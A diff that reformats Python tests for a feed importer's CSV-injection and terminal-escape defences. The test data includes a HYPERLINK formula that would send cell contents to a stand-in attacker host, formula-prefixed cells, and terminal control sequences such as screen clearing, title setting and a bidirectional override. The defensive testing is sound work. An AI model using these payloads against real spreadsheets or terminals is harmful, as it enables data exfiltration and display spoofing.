@@ -4,6 +4,7 @@ A rejected row's key and message come from the feed. On the terminal a control c
 escape sequence, a line break, a bidirectional override) would act instead of showing; in a
 spreadsheet a cell starting with ``= + - @`` (or a tab or CR) is a formula (OWASP, "CSV Injection").
 """
+
 from __future__ import annotations
 
 import csv
@@ -29,14 +30,13 @@ def run(tmp_path: Path, kind: str, text: str) -> tuple[str, list[list[str]]]:
 
 
 def test_formula_cells_are_neutralized_in_the_csv_report(tmp_path):
-    _, rows = run(tmp_path, "stock", 'sku,quantity\n'
-                                     '=HYPERLINK("http://evil.example/?"&A1),1\n'
-                                     '+1+1,2\n'
-                                     '-2+3,3\n'
-                                     '@SUM(A1:A9),4\n'
-                                     '"\t=1+1",5\n')  # the tab is CSV padding, trimmed: "=1+1" is left
+    _, rows = run(
+        tmp_path,
+        "stock",
+        'sku,quantity\n=HYPERLINK("http://evil.example/?"&A1),1\n+1+1,2\n-2+3,3\n@SUM(A1:A9),4\n"\t=1+1",5\n',
+    )  # the tab is CSV padding, trimmed: "=1+1" is left
     keys = [row[2] for row in rows]
-    assert keys == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'=1+1"]
+    assert keys == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'=1+1"]
 
 
 def test_every_report_cell_is_neutralized_tab_and_carriage_return_too(tmp_path):
@@ -57,17 +57,14 @@ def test_control_characters_never_reach_the_terminal_or_the_report(tmp_path):
     lines = terminal.splitlines()
     assert len(lines) == 2, lines  # a line break inside a key does not start a new report line
     for text in (terminal.replace("\n", ""), *(cell for row in rows for cell in row)):
-        assert not any(ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c == "\u202e" for c in text), repr(text)
+        assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in text), repr(text)
     # escaped, not dropped: the report shows what the feed held
     assert "\\x1b[2J\\x1b]0;owned\\x07B\\u202eLIAME\\x9b31m: sku:" in lines[0]
     assert rows[1][2] == "two\\nlines"
 
 
 def test_a_key_ending_in_a_newline_is_rejected_and_reported(tmp_path):
-    terminal, rows = run(tmp_path, "prices", 'sku,currency,amount\n'
-                                             '"ABC\n",EUR,1.00\n'
-                                             'ABC,"EUR\n",1.00\n'
-                                             'ABC,EUR,1.00\n')
+    terminal, rows = run(tmp_path, "prices", 'sku,currency,amount\n"ABC\n",EUR,1.00\nABC,"EUR\n",1.00\nABC,EUR,1.00\n')
     assert [(row[1], row[2]) for row in rows] == [("2", "ABC\\n/EUR"), ("4", "ABC/EUR\\n")]
     assert "sku: SKU 'ABC\\n' must match" in rows[0][3]
     assert "currency: currency 'EUR\\n' must match" in rows[1][3]
@@ -75,10 +72,9 @@ def test_a_key_ending_in_a_newline_is_rejected_and_reported(tmp_path):
 
 
 def test_category_keys_ending_in_a_newline_are_rejected(tmp_path):
-    _, rows = run(tmp_path, "products", 'sku,categories,name.en_US\n'
-                                        'P1,"bags\n",Bag\n'
-                                        'P2,"gear|bags\n",Bag\n'
-                                        'P3, gear | bags ,Bag\n')  # blanks around keys are CSV padding
+    _, rows = run(
+        tmp_path, "products", 'sku,categories,name.en_US\nP1,"bags\n",Bag\nP2,"gear|bags\n",Bag\nP3, gear | bags ,Bag\n'
+    )  # blanks around keys are CSV padding
     assert [row[2] for row in rows] == ["P1", "P2"]
     assert all("category key 'bags\\n' must match" in row[3] for row in rows)
 
